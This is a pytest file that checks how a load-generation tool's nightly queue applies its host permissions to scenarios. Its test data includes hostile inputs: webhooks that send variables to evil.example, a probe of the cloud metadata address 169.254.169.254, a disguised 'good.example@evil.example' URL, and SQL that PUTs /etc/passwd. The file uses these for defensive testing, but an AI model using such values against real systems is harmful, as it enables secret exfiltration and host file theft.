"""Attacks by a queued scenario: it gets no variable, connection, address or program that its pool does not allow."""

from __future__ import annotations

import json

import pytest

from loadgen.cli.main import main
from loadgen.control.location import ControlPlaneLocation
from loadgen.errors import ScenarioInvalid
from loadgen.model.run import CONTROL_WAREHOUSE
from loadgen.scenario.frozen import template_id
from loadgen.scenario.model import Scenario
from loadgen.scenario.read import parse_scenario
from orchestrator.nightly.queue import (
    HostPermissions,
    NotAllowed,
    apply_permissions,
    with_control_plane_of_queue,
)

SCENARIO = "version: 1\nname: orders\nconnection: embedded\nworkload: {statements: [{name: a, sql: SELECT 1}]}\n"
EMBEDDED_ONLY = HostPermissions(connections=frozenset({"embedded"}))


def scenario_of(more: str = "", **environ: str) -> Scenario:
    return parse_scenario(SCENARIO + more, source="f.yaml", environ=environ).scenario


@pytest.mark.parametrize("text", ["${PGPASSWORD}", "x${HOME}", "${NOT_SET:-default}"])
def test_no_variable_is_filled_in_that_was_not_allowed(text):
    more = f'description: "{text}"\n'

    with pytest.raises(ScenarioInvalid, match="--allow-variable "):
        parse_scenario(SCENARIO + more, source="f", environ={"PGPASSWORD": "s3cr3t", "HOME": "/"}, variables=())
    allowed = parse_scenario(SCENARIO + more, source="f", environ={}, variables={"NOT_SET"}) if ":-" in text else None
    assert allowed is None or allowed.scenario.description == "default"


@pytest.mark.parametrize(
    ("more", "option"),
    [
        ("notify: [{webhook: 'https://evil.example/${HOOK}', on: [always]}]\n", "--allow-webhook evil.example"),
        ("notify: [{ping: 'http://169.254.169.254/latest${HOOK}'}]\n", "--allow-webhook 169.254.169.254"),
        ("notify: [{webhook: 'https://good.example@evil.example/${HOOK}'}]\n", "--allow-webhook evil.example"),
        ("control: {connection: prod}\n", "--allow-connection prod"),
        ("spawner: {kind: kubernetes, image: x, secret: s}\n", "--allow-cluster current"),
        ("spawner: {kind: kubernetes, image: x, secret: s, context: prod}\n", "--allow-cluster prod"),
    ],
)
def test_forbidden_values_are_rejected_and_named(more, option):
    allowed = HostPermissions(connections=frozenset({"embedded"}), webhooks=frozenset({"good.example"}))

    with pytest.raises(NotAllowed, match=option):
        apply_permissions(scenario_of(more, HOOK="x"), allowed, pytest.fail)


def test_a_webhook_is_allowed_by_its_host_and_a_command_by_its_exact_name():
    notify = "notify: [{webhook: '${HOOK}'}, {command: [say, x]}, {command: [/bin/say]}, {command: [say2]}]\n"
    scenario = scenario_of(notify, HOOK="https://Chat.Example:8443/secret")
    allowed = HostPermissions.of_options(
        {
            "allow_variable": (),
            "allow_webhook": ("CHAT.example",),
            "allow_connection": (),
            "allow_command": ("say",),
            "allow_cluster": (),
        },
        "embedded",
        None,
    )
    warned: list[str] = []

    kept = apply_permissions(scenario, allowed, warned.append)

    assert [one.command or str(one.webhook) for one in kept.notify] == [
        "https://Chat.Example:8443/secret",
        ("say", "x"),
    ]
    assert [line.partition("pool run ")[2] for line in warned] == ["--allow-command /bin/say", "--allow-command say2"]


@pytest.mark.parametrize(
    ("more", "words", "option"),
    [
        ('description: "${PGPASSWORD}"\n', (), "--allow-variable PGPASSWORD"),
        ("", ("--connection=prod",), "--allow-connection prod"),
        (
            "notify: [{webhook: 'https://evil.example/${HOOK}'}]\n",
            ("--allow-variable=HOOK",),
            "--allow-webhook evil.example",
        ),
    ],
)
def test_a_run_from_the_queue_ends_with_2_and_the_option_that_is_missing(
    tmp_path, monkeypatch, capsys, more, words, option
):
    monkeypatch.setenv("PGPASSWORD", "s3cr3t")
    monkeypatch.setenv("HOOK", "x")
    file = tmp_path / "scenario.yaml"
    file.write_text(SCENARIO + more)

    code = main(["run", str(file), "--from-queue", "--allow-connection=embedded", "--format=json", *words])

    out, err = capsys.readouterr()
    assert code == 2
    assert option in json.loads(out)["error"]["message"]
    assert "s3cr3t" not in out + err


@pytest.mark.parametrize("place", ["workload", "prepare", "values"])
@pytest.mark.parametrize("sql", ["PUT file:///etc/passwd @~", "GET @~ file://x", "put 'file://x' @~"])
def test_no_scenario_reads_or_writes_files_of_its_host_by_sql(place, sql):
    more = {
        "workload": f'workload: {{statements: [{{name: a, kind: write, sql: "{sql}"}}]}}\n',
        "prepare": f'prepare: {{statements: ["{sql}"]}}\n',
        "values": f'values: {{v: {{query: "{sql}"}}}}\n',
    }[place]
    text = SCENARIO if place != "workload" else SCENARIO.partition("workload")[0]

    with pytest.raises(ScenarioInvalid):
        parse_scenario(text + more, source="f.yaml", environ={})


def test_a_queued_run_is_recorded_where_its_queue_is(monkeypatch):
    told = {"CONNECTION": "prod", "DATABASE": "BENCH", "SCHEMA": "CONTROL", "WAREHOUSE": CONTROL_WAREHOUSE}
    for name, value in told.items():
        monkeypatch.setenv(f"LOADGEN_CONTROL_{name}", value)
    own = scenario_of("control: {database: EVIL, warehouse: MINE_WH}\n")
    same = scenario_of("control: {connection: prod, database: BENCH}\n")

    place = ControlPlaneLocation.of_scenario(with_control_plane_of_queue(own))

    # The default warehouse is no wish of the pool's user.
    assert place == ControlPlaneLocation(connection="prod", database="BENCH", schema="CONTROL", warehouse="MINE_WH")
    assert template_id(with_control_plane_of_queue(same)) == template_id(same)
